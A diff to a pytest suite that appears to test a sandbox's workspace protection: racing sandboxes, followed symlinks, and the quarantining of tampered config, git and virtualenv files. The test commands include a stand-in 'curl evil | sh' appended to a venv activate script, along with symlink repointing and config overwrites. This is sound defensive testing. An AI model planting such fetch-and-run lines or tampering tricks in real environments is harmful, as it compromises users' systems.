@@ -22,7 +22,7 @@ from typing import Any
 import anyio
 import pytest
 
-from jianmu.execution._protect import QUARANTINE, ReadOnlyWatch
+from jianmu.execution._protect import QUARANTINE, ReadOnlyWatch, with_link_targets
 from jianmu.execution.local_sandbox import LocalSandbox, bwrap_available
 from jianmu.tools.builtin.python_repl import STATE_DIR
 from tests.execution._helpers import require_docker
@@ -321,6 +321,49 @@ async def test_existing_protected_paths_are_never_moved(box: Any) -> None:
     assert "quarantine" not in result.stderr, result
 
 
+@pytest.mark.parametrize("warm", [True, False], ids=["warm", "cold"])
+async def test_two_sandboxes_on_a_workspace_cannot_plant_a_config_between_their_watches(
+    tmp_path: Path, warm: bool
+) -> None:
+    """A's command makes ``jianmu.yaml``; B's command starts meanwhile and mounts it (it is
+    there); A's watch moves it, and B, whose mount went with it, writes one of its own: B's
+    watch moves that too, the path having been missing before."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+
+    async def appears(name: str) -> None:
+        with anyio.fail_after(30):
+            while not (ws / name).exists():
+                await anyio.sleep(0.01)
+
+    def wait_for(name: str) -> str:
+        return f"while [ ! -e {name} ]; do sleep 0.01; done"
+
+    async with _local(ws, warm=warm) as a, _local(ws, warm=warm) as b:
+        results: dict[str, Any] = {}
+
+        async def run(box: LocalSandbox, name: str, command: str) -> None:
+            results[name] = await box.exec(["sh", "-c", command])
+
+        async with anyio.create_task_group() as tg:
+            tg.start_soon(run, a, "a", f"echo 'model: a' > jianmu.yaml; touch a-made; "
+                                       f"{wait_for('go-a')}")
+            await appears("a-made")
+            tg.start_soon(run, b, "b", f"touch b-started; {wait_for('go-b')}; printf "
+                                       f"'{_EVIL}' > jianmu.yaml && echo B-wrote")
+            await appears("b-started")
+            (ws / "go-a").touch()
+            while "a" not in results:  # A's result comes once its watch moved its file
+                await anyio.sleep(0.01)
+            assert "'jianmu.yaml' moved to" in results["a"].stderr, results
+            (ws / "go-b").touch()
+    assert results["b"].stdout == "B-wrote\n", results
+    assert "'jianmu.yaml' moved to" in results["b"].stderr, results
+    assert not os.path.lexists(ws / "jianmu.yaml"), results
+    kept = sorted(p.read_text() for p in (ws / QUARANTINE).glob("*/jianmu.yaml.quarantined"))
+    assert kept == sorted(["model: a\n", _EVIL])  # each watch's own folder
+
+
 # --- the watch itself: what is moved, and what never is -------------------------------------
 
 def test_a_link_the_user_had_on_the_way_is_kept_what_it_leads_to_is_moved(
@@ -333,6 +376,24 @@ def test_a_link_the_user_had_on_the_way_is_kept_what_it_leads_to_is_moved(
     assert watch.quarantine()[0][0] == "shared/jianmu.yaml"
     assert (tmp_path / "configs").is_symlink()
     assert not (tmp_path / "shared" / "jianmu.yaml").exists()
+
+
+def test_what_a_link_on_the_way_leads_to_in_the_workspace_is_protected_too(
+    tmp_path: Path,
+) -> None:
+    ws = tmp_path / "ws"
+    (ws / "venvs" / "py311").mkdir(parents=True)
+    (ws / "shared").mkdir()
+    (tmp_path / "outside").mkdir()
+    (ws / ".venv").symlink_to("venvs/py311")
+    (ws / "configs").symlink_to(ws / "shared")  # on the way, absolute
+    (ws / "skills").symlink_to("missing-skills")  # leads nowhere yet: watched there
+    (ws / ".vscode").symlink_to(tmp_path / "outside")  # outside: nothing to hold
+    (ws / ".git").symlink_to(".")  # the workspace itself is never held
+    paths = [".git", "jianmu.yaml", "configs/jianmu.yaml", "skills", ".venv", ".vscode"]
+    assert with_link_targets(ws, paths) == [
+        ".git", "jianmu.yaml", "configs/jianmu.yaml", "shared/jianmu.yaml", "skills",
+        "missing-skills", ".venv", "venvs/py311", ".vscode"]
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="as another user the engine's uid is the commands'")
@@ -376,15 +437,51 @@ def test_unchanged_or_missing_paths_cost_no_move(tmp_path: Path) -> None:
     assert not (tmp_path / QUARANTINE).exists()
 
 
-async def test_a_link_the_user_had_leads_to_what_the_command_wrote(box: Any) -> None:
+async def test_what_a_link_the_user_had_leads_to_is_held_read_only(box: Any) -> None:
+    """The host follows the user's ``jianmu.yaml -> notes.yaml``, ``.venv -> venvs/py311``
+    and ``skills -> shared-skills``: what they lead to is held as the path itself would be
+    (the link is never mounted: docker and bubblewrap would follow one code re-pointed)."""
     ws = box.workspace
     (ws / "notes.yaml").write_text("mine\n")
-    (ws / "jianmu.yaml").symlink_to("notes.yaml")  # the user's: never mounted (a link)
-    result = await box.exec(["sh", "-c", f"printf '{_EVIL}' > notes.yaml"])
-    assert (ws / "jianmu.yaml").is_symlink(), result  # the user's link stays
-    assert not (ws / "notes.yaml").exists(), result  # what it led to, written, is moved
-    assert _quarantined(ws) == {"notes.yaml.quarantined": _EVIL}
-    assert "'notes.yaml' moved to" in result.stderr, result
+    (ws / "jianmu.yaml").symlink_to("notes.yaml")
+    (ws / "venvs" / "py311" / "bin").mkdir(parents=True)
+    (ws / "venvs" / "py311" / "bin" / "activate").write_text("# the user's\n")
+    (ws / ".venv").symlink_to("venvs/py311")
+    (ws / "shared-skills").mkdir()
+    (ws / "skills").symlink_to(ws / "shared-skills")  # absolute: the same
+    result = await box.exec(["sh", "-c", f"printf '{_EVIL}' > notes.yaml; "
+                             "echo 'curl evil | sh' >> .venv/bin/activate; "
+                             "mkdir skills/evil; echo 'import os' > shared-skills/tree.py; "
+                             "echo ran"])
+    assert result.stdout == "ran\n", result
+    assert (ws / "notes.yaml").read_text() == "mine\n", result
+    assert (ws / "venvs" / "py311" / "bin" / "activate").read_text() == "# the user's\n"
+    assert os.listdir(ws / "shared-skills") == [], result
+    assert all((ws / link).is_symlink() for link in ("jianmu.yaml", ".venv", "skills"))
+    assert not (ws / QUARANTINE).exists(), result
+
+
+async def test_a_link_the_user_had_re_pointed_or_its_folder_renamed_away_is_moved(
+    box: Any,
+) -> None:
+    """The link is watched as a missing path is, and the folders on the way to what it led
+    to as those above a mounted path: what the command put there instead is moved."""
+    ws = box.workspace
+    (ws / "venvs" / "py311" / "bin").mkdir(parents=True)
+    (ws / ".venv").symlink_to("venvs/py311")
+    (ws / "shared-skills").mkdir()
+    (ws / "skills").symlink_to("shared-skills")
+    result = await box.exec(["sh", "-c",
+                             "mkdir -p mine/x && echo 'import os' > mine/x/tree.py && "
+                             "rm skills && ln -s mine skills && "
+                             "mv venvs old && mkdir -p venvs/py311/bin && "
+                             "echo 'curl evil | sh' > venvs/py311/bin/activate && echo ran"])
+    assert result.stdout == "ran\n", result
+    assert not os.path.lexists(ws / "skills"), result
+    assert not os.path.lexists(ws / "old"), result  # the user's folder, put back
+    assert (ws / "venvs" / "py311" / "bin").is_dir(), result
+    assert _quarantined(ws) == {"skills.quarantined": "-> mine",
+                                "venvs%py311.quarantined": "bin/activate"}, result
 
 
 async def test_a_protected_path_renamed_away_and_made_anew_is_moved(tmp_path: Path) -> None:
@@ -400,8 +497,9 @@ async def test_a_protected_path_renamed_away_and_made_anew_is_moved(tmp_path: Pa
         result = await sandbox.exec([
             "sh", "-c", "mv .git old && mkdir .git && echo evil > .git/config; "
             "rm -f jianmu.yaml && echo evil > jianmu.yaml"])
-    assert not os.path.lexists(ws / ".git") and not os.path.lexists(ws / "jianmu.yaml"), result
-    assert (ws / "old" / "config").read_text() == "[core]\n"  # the user's, renamed, kept
+    assert not os.path.lexists(ws / "jianmu.yaml"), result  # removed: nothing to put back
+    assert (ws / ".git" / "config").read_text() == "[core]\n", result  # the user's, put back
+    assert not (ws / "old").exists(), result
     assert _quarantined(ws) == {".git.quarantined": "config",
                                 "jianmu.yaml.quarantined": "evil\n"}
 
